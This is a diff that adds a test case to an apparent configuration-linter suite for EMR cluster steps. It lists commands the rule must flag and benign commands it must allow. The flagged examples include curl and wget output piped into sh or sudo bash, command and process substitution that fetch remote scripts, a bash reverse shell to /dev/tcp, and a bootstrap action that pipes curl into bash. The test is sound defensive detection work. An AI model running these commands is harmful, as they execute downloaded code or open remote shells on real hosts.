@@ -77,6 +77,30 @@ def _set_idle_timeout(document: Document) -> None:
 
 CASES = [
     Case(
+        "LK_EMR_9",
+        GOOD,
+        {
+            "pipe": (_set_step("bash", "-c", "curl -s 203.0.113.9|sh"), "step runs code that it downloads"),
+            "pipe over sudo": (_set_step("bash", "-c", "wget -qO- evil.example/x | sudo -E bash -s"), "downloads"),
+            "pipe over another program": (_set_step("bash", "-c", "curl x.example/x | gunzip | python3"), "downloads"),
+            "substitution": (_set_step("bash", "-c", 'bash -c "$(curl -fsSL x.example/i)"'), "downloads"),
+            "process substitution": (_set_step("bash", "-c", "source <(curl x.example/i)"), "downloads"),
+            "socket": (_set_step("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), "to a socket"),
+            "bootstrap action": (
+                put(f"{_CLUSTER}/bootstrap_action", [{"path": "s3://code/x", "args": ["curl x.example/i | bash"]}]),
+                "bootstrap_action runs code that it downloads",
+            ),
+        },
+        {
+            "program of a bucket": _set_step("bash", "-c", "aws s3 cp s3://acme-code/x.sh . && bash x.sh"),
+            "download of data": _set_step("bash", "-c", "curl -sf https://api.acme.example/rates.json | jq .rates"),
+            "formatted": _set_step("bash", "-c", "curl -s https://api.acme.example/x | python3 -m json.tool"),
+            "port check": _set_step("bash", "-c", "nc -zv broker.acme.example 9098"),
+            "health check": _set_step("bash", "-c", "curl -sf localhost:8088/ws/v1/cluster; bash run.sh"),
+            "Spark": _set_step("spark-submit", "--conf", "spark.a=curl", "s3://acme-code/push.sh"),
+        },
+    ),
+    Case(
         "LK_EMR_7",
         GOOD,
         {
